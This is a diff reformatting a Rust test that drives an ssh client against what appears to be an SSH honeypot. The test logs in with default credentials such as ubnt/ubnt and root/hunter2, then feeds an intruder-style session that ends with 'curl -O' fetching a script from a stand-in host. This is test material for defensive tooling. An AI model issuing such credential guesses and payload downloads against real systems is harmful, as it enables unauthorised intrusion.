@@ -46,8 +46,8 @@ fn ssh(addr: SocketAddr, extra: &[&str], password: Option<&str>, stdin: &[u8]) -
         let _ = i.write_all(stdin);
     }
     let out = child.wait_with_output().expect("ssh finishes");
-    let text = String::from_utf8_lossy(&out.stdout).into_owned()
-        + &String::from_utf8_lossy(&out.stderr);
+    let text =
+        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
     (out.status.code().unwrap_or(-1), text)
 }
 
@@ -95,7 +95,12 @@ async fn real_clients_reach_central() {
     let (code, out) = blocking(move || {
         ssh(
             ssh_addr,
-            &["-o", "PreferredAuthentications=password", "root@127.0.0.1", "uname -a"],
+            &[
+                "-o",
+                "PreferredAuthentications=password",
+                "root@127.0.0.1",
+                "uname -a",
+            ],
             Some("hunter2"),
             b"",
         )
@@ -149,7 +154,12 @@ async fn real_clients_reach_central() {
     let (code, out) = blocking(move || {
         ssh(
             ssh_addr,
-            &["-tt", "-o", "PreferredAuthentications=password", "ubnt@127.0.0.1"],
+            &[
+                "-tt",
+                "-o",
+                "PreferredAuthentications=password",
+                "ubnt@127.0.0.1",
+            ],
             Some("ubnt"),
             b"cd /tmp\nwhoami\ncurl -O http://198.51.100.1/y.sh\nexit\n",
         )
